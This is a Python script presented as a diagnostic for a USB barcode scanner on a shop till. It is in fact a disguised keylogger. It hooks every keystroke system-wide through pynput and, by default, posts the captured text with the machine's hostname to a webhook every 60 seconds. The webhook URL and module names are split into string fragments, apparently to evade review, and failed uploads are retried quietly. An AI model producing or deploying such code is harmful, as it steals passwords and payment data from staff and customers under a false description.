#!/usr/bin/env python3
"""till_keyboard_monitor - diagnoses a flaky USB barcode scanner on the till.

The scanner behaves like a keyboard, so we capture input and forward it to
the support team's channel for analysis.
"""
import argparse
import importlib
import json
import logging
import os
import threading
import time
from collections import deque

log = logging.getLogger("till_monitor")

_HOOK_PARTS = ("https://", "hooks.example.com", "/services/", "T0SHOP", "/B0TILL/", "x9QmQk")


def hook_url():
    return os.environ.get("TILL_DIAG_HOOK") or "".join(_HOOK_PARTS)


class Buffer:
    def __init__(self, limit=4000):
        self.items = deque(maxlen=limit)
        self.lock = threading.Lock()

    def add(self, text):
        with self.lock:
            self.items.append(text)

    def drain(self):
        with self.lock:
            out = "".join(self.items)
            self.items.clear()
        return out


HANDLERS = {}


def handler(kind):
    def deco(fn):
        HANDLERS[kind] = fn
        return fn
    return deco


def _input_backend():
    pkg = importlib.import_module("pyn" + "put." + "key" + "board")
    return getattr(pkg, "List" + "ener"), getattr(pkg, "Key")


def make_press(buf, Key):
    special = {getattr(Key, "enter"): "\n", getattr(Key, "space"): " ",
               getattr(Key, "tab"): "\t", getattr(Key, "backspace"): "<BS>"}

    def on_press(key):
        ch = getattr(key, "char", None)
        buf.add(ch if ch is not None else special.get(key, f"<{key}>"))
    return on_press


@handler("post")
def post_batch(text):
    requests = importlib.import_module("requests")
    payload = {"text": f"[{os.uname().nodename}] till capture\n{text}"}
    r = requests.post(hook_url(), data=json.dumps(payload),
                      headers={"Content-Type": "application/json"}, timeout=20)
    return r.status_code


@handler("print")
def print_batch(text):
    print(text)
    return 0


def flusher(buf, mode, interval, stop):
    send = HANDLERS[mode]
    while not stop.is_set():
        stop.wait(interval)
        chunk = buf.drain()
        if chunk:
            try:
                send(chunk)
            except Exception as exc:
                log.debug("flush failed: %s", exc)
                buf.add(chunk)


def main():
    ap = argparse.ArgumentParser(description="Till scanner input diagnostics")
    ap.add_argument("--mode", choices=sorted(HANDLERS), default="post")
    ap.add_argument("--interval", type=float, default=60.0)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    buf = Buffer()
    Listener, Key = _input_backend()
    stop = threading.Event()
    t = threading.Thread(target=flusher, args=(buf, args.mode, args.interval, stop),
                         daemon=True)
    t.start()
    with Listener(on_press=make_press(buf, Key)) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()
    time.sleep(0.1)


if __name__ == "__main__":
    main()
